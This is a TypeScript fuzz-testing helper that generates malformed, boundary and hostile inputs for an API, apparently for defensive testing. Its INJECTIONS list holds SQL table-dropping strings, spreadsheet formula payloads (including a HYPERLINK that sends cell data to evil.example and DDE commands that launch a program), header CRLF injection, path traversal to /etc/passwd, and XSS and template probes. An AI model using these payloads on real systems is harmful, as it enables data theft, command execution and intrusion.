import fc from 'fast-check';
import type { JsonSchema } from './routes.js';

/**
 * Seeded, reproducible fuzzing. `FUZZ_SEED` (default below) seeds every property, `FUZZ_RUNS`
 * (default 10,000) is the number of cases one run of the fuzz file makes, shared out between its
 * properties by weight; `npm run fuzz` runs 20 times as many. A failure names the seed to rerun it.
 */
const envInt = (name: string): number | undefined => {
  const v = process.env[name];
  if (v === undefined || v === '') return undefined;
  const n = Number(v);
  if (!Number.isSafeInteger(n)) throw new Error(`${name} must be an integer, not ${v}`);
  return n;
};

export const FUZZ_SEED = envInt('FUZZ_SEED') ?? 20_260_309;
export const FUZZ_RUNS = envInt('FUZZ_RUNS') ?? 10_000;

/**
 * Runs `property` for `share` of FUZZ_RUNS cases, seeded from FUZZ_SEED and `salt` (so each
 * property draws its own cases). Returns the number of cases run; a failure rethrows fast-check's
 * report (seed, path, counterexample) with the FUZZ_SEED that reproduces it.
 */
export async function fuzz<T>(
  name: string,
  share: number,
  salt: number,
  arb: fc.Arbitrary<T>,
  check: (value: T) => Promise<void>,
): Promise<number> {
  const numRuns = Math.max(1, Math.round(FUZZ_RUNS * share));
  let runs = 0;
  try {
    await fc.assert(
      fc.asyncProperty(arb, async (value) => {
        runs++;
        await check(value);
      }),
      { seed: FUZZ_SEED + salt, numRuns, endOnFailure: false, maxSkipsPerRun: 0 },
    );
  } catch (err) {
    const message = err instanceof Error ? err.message : String(err);
    const cause =
      err instanceof Error && err.cause instanceof Error ? `\nCaused by: ${err.cause.message}` : '';
    throw new Error(
      `fuzz "${name}" failed; rerun with FUZZ_SEED=${FUZZ_SEED} (property seed ${FUZZ_SEED + salt}).\n${message}${cause}`,
    );
  }
  return Math.min(runs, numRuns);
}

/** Strings that must be inert wherever they go: SQL, GraphQL, CSV formulas, header CRLF, FTS syntax. */
export const INJECTIONS = [
  "' OR 1=1 --",
  "' OR '1'='1",
  '"; DROP TABLE events; --',
  "'; DELETE FROM events; --",
  "') UNION SELECT body FROM events --",
  "%' OR tenant LIKE '%",
  '1); DROP TABLE jobs; --',
  '{ __schema { types { name } } }',
  '") { accountId } b: auditData(first: 1000) { originator } #',
  'fragment F on Query { ...F }',
  '$first',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\r\nSet-Cookie: x=y',
  'a\r\nLocation: http://evil.example',
  '"a" OR b*',
  'NEAR(a b)',
  'a & !b | c:*',
  '*',
  '%',
  '_',
  '\\',
  "'",
  '"',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, literally.
  '${7*7}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '{"$gt":""}',
  '<img src=x onerror=alert(1)>',
];

/** Unicode and length oddities. */
export const ODD_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uDFFF',
  'x\uDBFFy',
  '\uFFFE',
  '\uFEFF',
  '\u202Eevil',
  '\u200B',
  '👩‍👩‍👧',
  'e\u0301',
  'İ',
  'ß',
  '＝1+1',
  '\u0085',
  '\u2028',
  '\u001b[31m',
  'x'.repeat(513),
  'y'.repeat(10_000),
  '😀'.repeat(300),
];

export const NUMBERS_AS_TEXT = [
  '0',
  '-0',
  '-1',
  '1',
  '1.5',
  '1e3',
  '1e400',
  '-1e400',
  'Infinity',
  '-Infinity',
  'NaN',
  '9007199254740993',
  '99999999999999999999',
  '0x10',
  ' 7 ',
  '07',
  '+5',
  'true',
  'null',
];

export const TIMES = [
  '2026-03-01T12:00:00Z',
  '2026-03-01T12:00:00.123456789+14:00',
  '2026-12-31T23:59:60Z',
  '2026-02-30T00:00:00Z',
  '0000-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999Z',
  '+275760-09-13T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '2026-03-01',
  '2026-03-01T12:00:00',
  '2026-03-01T12:00:00-23:59',
  'now',
  'today',
  'yesterday',
  'now-1day',
  'now+15m',
  'now 15m',
  'now-99999999999w',
  'today-1week+3h',
  'P1D',
  'PT3H',
  'P99999999Y',
  '2026-03-01T00:00:00Z/2026-03-02T00:00:00Z',
  '2026-03-01T00:00:00Z/P1D',
  'PT3H/2026-03-01T00:00:00Z',
  'P1D/P1D',
  '2026-03-02T00:00:00Z/2026-03-01T00:00:00Z',
  '0000-01-01T00:00:00Z/9999-12-31T23:59:59Z',
  '2026-W10',
  '1772366400',
  '2026-03-01T12:00:00Z,2026-03-02T12:00:00Z',
];

/** Any of the pools above. */
export const nastyString = fc.constantFrom(...INJECTIONS, ...ODD_STRINGS, ...NUMBERS_AS_TEXT, ...TIMES);

/** A string of any code points (lone surrogates included), control characters and all. */
export const anyString = (maxLength = 40) =>
  fc.oneof(
    fc.string({ unit: 'binary', maxLength }),
    fc.string({ unit: 'binary-ascii', maxLength }),
    fc.string({ unit: 'grapheme', maxLength }),
    fc
      .array(fc.integer({ min: 0, max: 0xffff }), { maxLength })
      .map((codes) => String.fromCharCode(...codes)),
  );

/** Arrays or objects nested `depth` deep. */
export const deepValue = fc.tuple(fc.integer({ min: 1, max: 3000 }), fc.boolean()).map(([depth, array]) => {
  let v: unknown = 'bottom';
  for (let i = 0; i < depth; i++) v = array ? [v] : { a: v };
  return v;
});

/** Any JSON value, including the nasty strings, deep nesting and big arrays. */
export const garbage: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 3, arbitrary: nastyString },
  { weight: 2, arbitrary: anyString() },
  { weight: 1, arbitrary: deepValue },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, 0, -1, 1.5, 2 ** 53 + 2, -(2 ** 63), 1e308) },
  { weight: 1, arbitrary: fc.array(fc.constant('x'), { minLength: 101, maxLength: 1500 }) },
);

/**
 * Arrays mostly short, some just past a 100-item limit, some of up to `max` items: drawn from a
 * few generated items repeated, so a long list costs no more to make than a short one.
 */
export const bigArray = <T>(item: fc.Arbitrary<T>, max = 5000): fc.Arbitrary<T[]> =>
  fc.oneof(
    { weight: 3, arbitrary: fc.array(item, { maxLength: 6 }) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(
          fc.array(item, { minLength: 1, maxLength: 4 }),
          fc.oneof(fc.integer({ min: 95, max: 105 }), fc.nat(max)),
        )
        .map(([pool, n]) => Array.from({ length: n }, (_, i) => pool[i % pool.length] as T)),
    },
  );

/**
 * Objects of up to `max` generated keys (`k0`, `k1`, …) plus a few arbitrary ones (`__proto__`,
 * empty, lone surrogates …), over a few values: the many-keys bodies a parser must shrug off.
 */
export const manyKeys = (value: fc.Arbitrary<unknown>, max = 5000): fc.Arbitrary<Record<string, unknown>> =>
  fc
    .tuple(
      fc.oneof(fc.nat(8), fc.nat(max)),
      fc.array(fc.oneof(anyString(12), fc.constantFrom('__proto__', 'constructor', '', 'k0')), {
        maxLength: 3,
      }),
      fc.array(value, { minLength: 1, maxLength: 3 }),
    )
    .map(([n, odd, values]) =>
      // fromEntries makes `__proto__` an own key, as JSON.parse on the server will.
      Object.fromEntries([
        ...Array.from({ length: n }, (_, i) => [`k${i}`, values[i % values.length]]),
        ...odd.map((k) => [k, values[0]]),
      ]),
    );

/** A GraphQL selection set's text and the fragment definitions it spreads. */
export interface GraphQLSelection {
  selection: string;
  fragments: string;
}

/**
 * Valid selections over the leaf `fields` of `type` built to make answers and costs grow: runs of
 * up to 120 aliases of one field, repeated fields, inline fragments, and a chain of up to 14 named
 * fragments each spreading the one before it one to three times (so spreads double down the
 * chain); one chain in ten closes a cycle, which validation refuses.
 */
export function graphqlSelection(type: string, fields: readonly string[]): fc.Arbitrary<GraphQLSelection> {
  const field = fc.constantFrom(...fields);
  const piece = fc.oneof(
    { weight: 3, arbitrary: field },
    {
      weight: 2,
      arbitrary: fc
        .tuple(field, fc.oneof(fc.integer({ min: 1, max: 12 }), fc.integer({ min: 1, max: 120 })))
        .map(([f, n]) => Array.from({ length: n }, (_, i) => `${f}${i}: ${f}`).join(' ')),
    },
    { weight: 1, arbitrary: field.map((f) => `${f} ${f} ${f}`) },
    { weight: 1, arbitrary: field.map((f) => `... on ${type} { ${f} }`) },
  );
  const pieces = fc.array(piece, { maxLength: 3 });
  return fc
    .record({
      top: pieces,
      chain: fc.oneof(
        ...[3, 14].map((maxLength) =>
          fc.array(fc.tuple(pieces, fc.integer({ min: 1, max: 3 }), fc.boolean()), { maxLength }),
        ),
      ),
      // One chain in ten closes a cycle, which validation refuses.
      cycle: fc.nat(9).map((n) => n === 0),
      spreadAll: fc.boolean(),
    })
    .map(({ top, chain, cycle, spreadAll }) => {
      const defs = chain.map(([own, spreads, inline], i) => {
        const before = i > 0 ? `F${i - 1}` : cycle && chain.length > 1 ? `F${chain.length - 1}` : undefined;
        const spread = before
          ? Array.from({ length: spreads }, (_, k) =>
              inline && k % 2 === 1 ? `... on ${type} { ...${before} }` : `...${before}`,
            )
          : [];
        const body = [...own, ...spread].join(' ') || '__typename';
        return `fragment F${i} on ${type} { ${body} }`;
      });
      const spreads =
        defs.length === 0 ? [] : spreadAll ? defs.map((_, i) => `...F${i}`) : [`...F${defs.length - 1}`];
      return { selection: [...top, ...spreads].join(' ') || '__typename', fragments: defs.join(' ') };
    });
}

/**
 * Realistic values by parameter or property name (the fixtures' ids and cursors, well-formed
 * dates …): valid inputs that reach deep into the handlers. Undefined: use the schema alone.
 */
export type Hints = (name: string) => fc.Arbitrary<unknown> | undefined;

/** Words a plain string parameter may be given: the fixtures' values, injections, oddities. */
export type Words = fc.Arbitrary<string>;

const asNumber = (v: unknown, fallback: number) =>
  typeof v === 'number' && Number.isFinite(v) ? v : fallback;

/**
 * ISO-8601 instants, mostly from 2025 to 2027 (a bounded number of PostgreSQL month partitions),
 * sometimes at the edges of what RFC 3339 allows.
 */
export const isoTime = fc.oneof(
  {
    weight: 9,
    arbitrary: fc
      .date({
        min: new Date('2025-01-01T00:00:00Z'),
        max: new Date('2027-12-31T23:59:59Z'),
        noInvalidDate: true,
      })
      .map((d) => d.toISOString()),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '0000-01-01T00:00:00.000Z',
      '0000-12-31T23:59:59.999Z',
      '0001-01-01T00:00:00Z',
      '1969-12-31T23:59:59.999Z',
      '1970-01-01T00:00:00Z',
      '9999-12-31T23:59:59.999Z',
    ),
  },
);

function stringArb(s: JsonSchema, words: Words): fc.Arbitrary<unknown> {
  const min = asNumber(s.minLength, 0);
  const max = Math.max(min, Math.min(asNumber(s.maxLength, 40), 60));
  if (s.format === 'date-time') return isoTime;
  return fc.oneof(
    fc.string({ minLength: min, maxLength: max }),
    fc.string({ unit: 'grapheme', minLength: min, maxLength: max }),
    words.filter((w) => w.length >= min && w.length <= asNumber(s.maxLength, 1e9)),
  );
}

function boundary(s: JsonSchema): fc.Arbitrary<unknown> {
  const values: unknown[] = [null, {}, [], '', 'x'];
  if (s.type === 'string') {
    const min = asNumber(s.minLength, 0);
    const max = asNumber(s.maxLength, 1000);
    values.push(
      'x'.repeat(max),
      'x'.repeat(max + 1),
      'é'.repeat(max),
      '😀'.repeat(max),
      'x'.repeat(Math.max(0, min - 1)),
    );
    if (s.format === 'date-time') values.push(...TIMES);
  }
  if (s.type === 'integer' || s.type === 'number') {
    const min = asNumber(s.minimum, 0);
    const max = asNumber(s.maximum, 2 ** 31);
    values.push(
      min - 1,
      min,
      max,
      max + 1,
      0,
      -1,
      1.5,
      2 ** 31,
      2 ** 53 + 2,
      -(2 ** 53) - 2,
      ...NUMBERS_AS_TEXT,
    );
  }
  if (s.type === 'boolean') values.push('true', 'false', 1, 0, 'yes', 'TRUE');
  if (s.type === 'array') {
    values.push(Array.from({ length: asNumber(s.maxItems, 100) + 1 }, () => 'x'));
  }
  for (const e of (s.enum as unknown[] | undefined) ?? []) {
    if (typeof e === 'string') values.push(e.toUpperCase(), e.toLowerCase(), ` ${e}`, `${e}\u0000`);
  }
  return fc.oneof(fc.constantFrom(...values), nastyString);
}

/** How a generated value may stray from its schema. */
export interface Gen {
  hints: Hints;
  words: Words;
  /** Boundary values and garbage at every level, not only valid values. */
  chaos: boolean;
}

/**
 * Values for a JSON schema (as the OpenAPI document renders the routes' own schemas). Without
 * `chaos`, valid values only (hinted ones by name where there are any), so requests reach deep
 * into the handlers; with it, boundary values and garbage may replace any part.
 */
export function fromSchema(schema: JsonSchema, gen: Gen, name = '', depth = 0): fc.Arbitrary<unknown> {
  const valid = validValue(schema, gen, name, depth);
  if (!gen.chaos) return valid;
  return fc.oneof(
    { weight: 6, arbitrary: valid },
    { weight: 2, arbitrary: boundary(schema) },
    { weight: 1, arbitrary: garbage },
  );
}

/** A value that is wrong for `schema`, or nearly so: a boundary value or garbage. */
export const badValue = (schema: JsonSchema): fc.Arbitrary<unknown> =>
  fc.oneof({ weight: 2, arbitrary: boundary(schema) }, { weight: 1, arbitrary: garbage });

function validValue(s: JsonSchema, gen: Gen, name: string, depth: number): fc.Arbitrary<unknown> {
  const hinted = gen.hints(name);
  const typed = typedValue(s, gen, name, depth);
  return hinted ? fc.oneof({ weight: 3, arbitrary: hinted }, { weight: 1, arbitrary: typed }) : typed;
}

function typedValue(s: JsonSchema, gen: Gen, name: string, depth: number): fc.Arbitrary<unknown> {
  if (Array.isArray(s.enum) && s.enum.length > 0) return fc.constantFrom(...(s.enum as unknown[]));
  if ('const' in s) return fc.constant(s.const);
  const alternatives = (s.anyOf ?? s.oneOf) as JsonSchema[] | undefined;
  if (alternatives?.length) return fc.oneof(...alternatives.map((a) => typedValue(a, gen, name, depth)));
  if (Array.isArray(s.allOf) && s.allOf.length > 0)
    return typedValue(s.allOf[0] as JsonSchema, gen, name, depth);
  const type = Array.isArray(s.type) ? s.type[0] : s.type;
  switch (type) {
    case 'string':
      return stringArb(s, gen.words);
    case 'integer':
      return fc.integer({ min: asNumber(s.minimum, -(2 ** 31)), max: asNumber(s.maximum, 2 ** 31) });
    case 'number':
      return fc.double({ noNaN: true, noDefaultInfinity: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      const items = (s.items as JsonSchema | undefined) ?? {};
      const max = Math.min(asNumber(s.maxItems, 4), 4);
      return fc.array(depth > 4 ? garbage : fromSchema(items, gen, name, depth + 1), {
        minLength: Math.min(asNumber(s.minItems, 0), max),
        maxLength: max,
      });
    }
    case 'object': {
      const props = (s.properties ?? {}) as Record<string, JsonSchema>;
      const required = ((s.required ?? []) as string[]).filter((k) => k in props);
      const model = Object.fromEntries(
        Object.entries(props).map(([k, v]) => [k, depth > 4 ? garbage : fromSchema(v, gen, k, depth + 1)]),
      );
      const pattern = s.patternProperties as Record<string, JsonSchema> | undefined;
      const extra = pattern
        ? fc.dictionary(
            gen.chaos ? anyString(12) : fc.string({ minLength: 1, maxLength: 12 }),
            fromSchema(Object.values(pattern)[0] ?? {}, gen, name, depth + 1),
            { maxKeys: 4 },
          )
        : fc.constant({});
      const record = gen.chaos
        ? fc.oneof(
            { weight: 9, arbitrary: fc.record(model, { requiredKeys: required }) },
            { weight: 1, arbitrary: fc.record(model, { requiredKeys: [] }) },
          )
        : fc.record(model, { requiredKeys: required });
      const unknown = gen.chaos
        ? fc.option(fc.tuple(anyString(12), garbage), { freq: 10 })
        : fc.constant(null);
      return fc
        .tuple(record, extra, unknown)
        .map(([r, more, u]) => ({ ...more, ...r, ...(u ? { [u[0]]: u[1] } : {}) }));
    }
    default:
      return fc.jsonValue({ maxDepth: 3 });
  }
}

/** Percent-encodes every byte of the UTF-8 encoding but the unreserved characters. */
export function pct(s: string): string {
  let out = '';
  for (const byte of Buffer.from(s, 'utf8')) {
    const c = String.fromCharCode(byte);
    out += /[A-Za-z0-9\-._~]/.test(c) ? c : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

/** Raw pieces a URL may carry that no encoder produces: broken escapes, overlong and CESU bytes. */
export const RAW_URL_PIECES = [
  '%',
  '%zz',
  '%E0%A4%A',
  '%C0%80',
  '%ED%A0%80',
  '%FF',
  '%00',
  '+',
  '%2B',
  ';',
  '..',
  '%2e%2e',
  '//',
];

/** How a value becomes query text: strings as they are, numbers and booleans in JSON, the rest as JSON. */
export const asText = (v: unknown): string =>
  typeof v === 'string' ? v : (JSON.stringify(v) ?? 'undefined');

/** A query parameter's value(s) as `name=value` pairs in one of the encodings clients use. */
export function queryPairs(name: string, value: unknown, mode: number): [string, string][] {
  if (!Array.isArray(value)) return [[name, asText(value)]];
  if (value.length === 0) return [[name, '']];
  switch (mode % 3) {
    case 0:
      return value.map((v) => [name, asText(v)]);
    case 1:
      return [[name, value.map(asText).join(',')]];
    default:
      return value.map((v) => [`${name}[]`, asText(v)]);
  }
}
